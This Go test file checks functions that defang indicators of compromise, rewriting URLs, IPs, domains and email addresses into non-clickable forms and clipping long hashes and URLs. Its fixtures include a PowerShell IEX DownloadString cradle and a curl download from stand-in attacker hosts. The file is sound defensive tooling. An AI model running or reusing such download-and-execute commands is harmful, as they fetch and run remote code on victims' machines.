package web

import (
	"strings"
	"testing"
)

func TestDefang(t *testing.T) {
	for in, want := range map[string]string{
		"http://evil.example/a.php?x=1.2": "hxxp://evil[.]example/a.php?x=1.2",
		"HTTPS://Evil.Example":            "hxxpS://Evil[.]Example", "evil.example": "evil[.]example",
		"192.0.2.1": "192[.]0[.]2[.]1", "192.0.2.0/24": "192.0.2.0/24", "2001:db8::1": "2001[:]db8[:][:]1",
		"a@evil.example": "a[@]evil[.]example", "d41d8cd98f00b204": "d41d8cd98f00b204",
		`C:\Windows\a.exe`: `C:\Windows\a.exe`, "a sentence. Two.": "a sentence. Two.",
		"ftp://x.example": "fxp://x[.]example", "": "",
	} {
		if got := Defang(in); got != want {
			t.Errorf("Defang(%q) = %q, want %q", in, got, want)
		}
	}
}

// In a command line only what could be followed is changed: programs, versions
// and names of classes stay as they are.
func TestDefangText(t *testing.T) {
	for in, want := range map[string]string{
		"powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://cdn.evil.example/a/w.ps1')\"": "powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('hxxp://cdn[.]evil[.]example/a/w.ps1')\"",
		"curl HTTPS://u:p@192.0.2.7:8443/x -o a.exe":                                                             "curl hxxpS://u:p[@]192[.]0[.]2[.]7:8443/x -o a.exe",
		"ping 192.0.2.7. Then 10.0.19041.1 and 1.2.3":                                                            "ping 192[.]0[.]2[.]7. Then 10.0.19041.1 and 1.2.3",
		"to 1a.b@evil.example, please":                                                                           "to 1a[.]b[@]evil[.]example, please",
		"nslookup CDN.evil.example 8.8.8.8":                                                                      "nslookup CDN[.]evil[.]example 8[.]8[.]8[.]8",
		"2001:db8::1":                                                                                            "2001[:]db8[:][:]1",
		`C:\Windows\System32\rundll32.exe`:                                                                       `C:\Windows\System32\rundll32.exe`,
		"PowerShell.EXE":                                                                                         "PowerShell.EXE",
		"Version 4.0.30319, 12:30:01.250":                                                                        "Version 4.0.30319, 12:30:01.250",
		"":                                                                                                       "",
	} {
		if got := DefangText(in, "cdn.evil.example", "http://cdn.evil.example/a/w.ps1",
			"d41d8cd98f00b204"); got != want {
			t.Errorf("DefangText(%q)\n got %q\nwant %q", in, got, want)
		}
	}
}

// A long value keeps its beginning and its end on a line that must stay short.
func TestClip(t *testing.T) {
	for in, want := range map[string]string{
		"http://evil.example/a.ps1":                                        "hxxp://evil[.]example/a.ps1",
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855": "e3b0c44298fc1c149afbf4c8996fb92427…95991b7852b855",
		"http://cdn.evil.example/" + strings.Repeat("a", 80) +
			"/wsync.ps1": "hxxp://cdn[.]evil[.]example/aaaaaa…aaaa/wsync.ps1",
	} {
		if got := Clip(in); got != want {
			t.Errorf("%s: %s, want %s", in, got, want)
		}
	}
}
